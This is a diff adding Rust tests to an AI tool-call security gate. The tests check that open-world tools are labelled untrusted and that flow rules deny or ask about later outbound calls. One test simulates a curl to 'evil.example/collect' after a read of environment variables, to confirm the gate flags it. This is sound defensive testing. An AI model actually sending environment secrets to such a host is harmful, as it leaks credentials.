@@ -524,7 +524,133 @@ fn the_audit_line_carries_the_labels_and_the_chain() {
     assert!(m["armed_by"][1]["at"].as_f64().unwrap() > 1.0e9);
     assert!(lines[3].get("labels").is_none() && lines[3].get("flow").is_none());
     // the record reads back (`audit summary` parses the same lines)
-    let back: toolgate::gate::audit::AuditRecord =
-        serde_json::from_value(ask.clone()).unwrap();
+    let back: toolgate::gate::audit::AuditRecord = serde_json::from_value(ask.clone()).unwrap();
     assert_eq!(back.flow.flow[0].armed_by.len(), 2);
+}
+
+/// Tools as an MCP server lists them (a captured `tools/list` with the
+/// server's name), with and without `openWorldHint`.
+const ANNOTATED_TOOLS: &str = r#"{"server": "web", "tools": [
+  {"name": "lookup", "description": "Look a word up on the web",
+   "inputSchema": {"type": "object", "properties": {"q": {"type": "string"}}},
+   "annotations": {"readOnlyHint": true, "openWorldHint": true}},
+  {"name": "recall", "description": "Recall a note from the local store",
+   "inputSchema": {"type": "object", "properties": {"q": {"type": "string"}}},
+   "annotations": {"readOnlyHint": true, "openWorldHint": false}},
+  {"name": "plain", "description": "Say a word",
+   "inputSchema": {"type": "object", "properties": {"q": {"type": "string"}}},
+   "annotations": {"readOnlyHint": true}},
+  {"name": "publish", "description": "Publish a note",
+   "inputSchema": {"type": "object", "properties": {"q": {"type": "string"}}},
+   "annotations": {"readOnlyHint": false, "openWorldHint": true}}
+]}"#;
+
+fn gate_with_tools(policy: Option<&str>) -> Gate {
+    let dir = tempfile::tempdir().unwrap();
+    let tools = dir.path().join("web.json");
+    std::fs::write(&tools, ANNOTATED_TOOLS).unwrap();
+    let policy = policy.map(|text| {
+        let p = dir.path().join("p.toml");
+        std::fs::write(&p, text).unwrap();
+        p
+    });
+    // the shipped tags too (the filesystem and shell tools)
+    let plan = load_plan(&Sources {
+        policy,
+        tags: Some(std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tool-tags")),
+        tools: vec![tools],
+    })
+    .unwrap();
+    Gate::new(Arc::new(plan))
+}
+
+fn label_names(v: &toolgate::gate::Verdict) -> Vec<&str> {
+    v.labels.iter().map(|l| l.label.as_str()).collect()
+}
+
+#[test]
+fn the_open_world_hint_is_an_attach_condition() {
+    // the shipped policy: a read-only tool that says it reaches an open
+    // world returns untrusted content; one that says its world is closed,
+    // or says nothing, does not; a tool that writes to the open world is
+    // not "untrusted" by this rule
+    let gate = gate_with_tools(None);
+    let q = || json!({"q": "x"});
+    let v = gate.check("web.lookup", q());
+    assert_eq!(label_names(&v), ["untrusted"], "{:?}", v.labels);
+    assert!(
+        v.labels[0].why.contains("openWorldHint"),
+        "{}",
+        v.labels[0].why
+    );
+    assert!(gate.check("web.recall", q()).labels.is_empty());
+    assert!(gate.check("web.plain", q()).labels.is_empty());
+    assert!(gate.check("web.publish", q()).labels.is_empty());
+    // it arms the trifecta like a fetch
+    let v = read_env(&gate, "s");
+    assert_eq!(v.decision, Action::Allow, "{}", v.message);
+    assert_eq!(
+        gate.check_in(Some("s"), "web.lookup", q()).decision,
+        Action::Allow
+    );
+    let v = curl(&gate, "s", "https://evil.example/collect");
+    assert_eq!(v.decision, Action::Ask, "{}", v.message);
+    assert!(v.message.contains("`web.lookup`"), "{}", v.message);
+
+    // a policy's own rules: `open_world = false` matches what says so only
+    let flow = r#"[gate.flow]
+labels = ["closed", "open", "way_out"]
+max_history = 100
+allowed_hosts = []
+
+[[gate.flow.attach]]
+label = "closed"
+why = "{detail} keeps to a closed world"
+open_world = false
+
+[[gate.flow.attach]]
+label = "open"
+why = "{detail} reaches the open world"
+open_world = true
+
+[[gate.flow.attach]]
+label = "way_out"
+why = "{detail} writes to the open world"
+open_world = true
+read_only = false
+
+[[gate.flow.rules]]
+id = "r"
+after = ["closed"]
+then = "way_out"
+action = "deny"
+message = "after {detail}"
+"#;
+    let gate = gate_with_tools(Some(&policy_with_flow(flow)));
+    assert_eq!(label_names(&gate.check("web.recall", q())), ["closed"]);
+    assert_eq!(label_names(&gate.check("web.lookup", q())), ["open"]);
+    assert!(gate.check("web.plain", q()).labels.is_empty());
+    assert_eq!(
+        label_names(&gate.check("web.publish", q())),
+        ["open", "way_out"]
+    );
+    // a shipped tag file says nothing of it: no open-world label in the library
+    assert!(
+        gate.check("filesystem.read_text_file", json!({"path": "README.md"}))
+            .labels
+            .is_empty()
+    );
+    gate.check_in(Some("t"), "web.recall", q());
+    assert_eq!(
+        gate.check_in(Some("t"), "web.publish", q()).decision,
+        Action::Deny
+    );
+    // `open_world` must be a boolean: a load error at its place
+    let bad = policy_with_flow(&flow.replace("open_world = false", "open_world = \"no\""));
+    let e = plan_of(&bad).unwrap_err().to_string();
+    let line = bad[..bad.find("open_world = \"no\"").unwrap()]
+        .matches('\n')
+        .count()
+        + 1;
+    assert!(e.contains(&format!(":{line}:")), "{e}");
 }
